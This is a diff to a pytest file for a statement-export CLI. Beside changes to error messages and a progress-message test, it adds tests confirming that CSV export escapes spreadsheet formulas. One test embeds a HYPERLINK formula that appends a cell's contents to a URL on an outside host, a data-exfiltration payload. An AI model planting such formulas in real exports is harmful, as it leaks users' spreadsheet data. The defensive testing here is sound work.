@@ -18,6 +18,7 @@ from typing import Any
 import pytest
 
 from statement_site.cli import _parser, main
+from statement_site.export import csv_cell
 
 from .conftest import CORPUS, ROOT, STATEMENT, STATEMENT_ID, make_project
 
@@ -160,7 +161,7 @@ def test_check_gb18030_forced_as_utf8(capsys: pytest.CaptureFixture[str], tmp_pa
 def test_check_unknown_encoding(capsys: pytest.CaptureFixture[str], statement: Path) -> None:
     fails_with(
         capsys,
-        f"{statement}:1:1: unknown encoding 'big-5-ish'",
+        f"{statement}:1:1: 'big-5-ish' is not a text encoding (such as utf-8, gb18030 or big5)",
         "check",
         "--encoding",
         "big-5-ish",
@@ -283,7 +284,7 @@ def test_check_a_file_beside_a_bad_document_yml(
     write(metadata, "title: [联合声明\n")
     fails_with(
         capsys,
-        f"{metadata}:2:1: not valid YAML: expected ',' or ']', but got '<stream end>'",
+        f"{metadata}:2:1: not valid YAML: did not find expected ',' or ']'",
         "check",
         folder / "source.zh.txt",
     )
@@ -366,10 +367,34 @@ def test_export_csv(capsys: pytest.CaptureFixture[str], statement: Path) -> None
         [str(c["number"]), c["label"], c["heading"], c["text"]] for c in clauses
     ]
     assert [row[1] + row[3] for row in rows[1:]] == PIECES[1:-1]
-    # And back: writing the rows again gives the same CSV.
+    # And back: writing the rows again, every cell quoted, gives the same CSV.
     again = io.StringIO()
-    csv.writer(again, lineterminator="\n").writerows(rows)
+    csv.writer(again, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(rows)
     assert again.getvalue() == out
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_export_csv_never_writes_a_formula_a_spreadsheet_would_run(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path, start: str
+) -> None:
+    formula = f'{start}HYPERLINK("https://x.org/?"&A1,"click")'
+    text = f"联合声明\n一、{formula}\n二、双方同意。\n"
+    path = write(tmp_path / "formula.txt", text)
+    status, out, _ = run(capsys, "export", path, "--format", "csv")
+    assert status == 0
+    rows = list(csv.reader(io.StringIO(out, newline="")))
+    text_cell = rows[1][3]
+    assert text_cell.startswith("'") and text_cell[1:].strip() == formula.strip()
+    assert rows[2][3] == "双方同意。"  # other cells as they are
+    # The JSON keeps the text exactly.
+    assert export_json(capsys, path)["clauses"][0]["text"].strip() == formula.strip()
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_csv_cell_that_would_start_a_formula_is_escaped(start: str) -> None:
+    assert csv_cell(f"{start}1+1") == f"'{start}1+1"
+    assert csv_cell(f"a{start}1") == f"a{start}1"
+    assert csv_cell(15) == "15"
 
 
 def test_export_csv_quotes_commas_quotes_and_line_breaks(
@@ -625,3 +650,16 @@ def test_the_parser_has_the_commands() -> None:
 def test_readme_documents_each_command(command: str) -> None:
     readme = (ROOT / "README.md").read_text(encoding="utf-8")
     assert f"statement-site {command}" in readme
+
+
+def test_a_long_build_says_how_far_it_is(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from statement_site import plugin
+
+    monkeypatch.setattr(plugin, "PROGRESS_SECONDS", 0.0)  # every document is "a while"
+    project = make_project(tmp_path)
+    status = main(["build", "-f", str(project / "mkdocs.yml")])
+    err = capsys.readouterr().err
+    assert status == 0
+    assert re.search(r"^statement-site: 1/1 documents read and tagged \(\d+ s\)$", err, re.M)
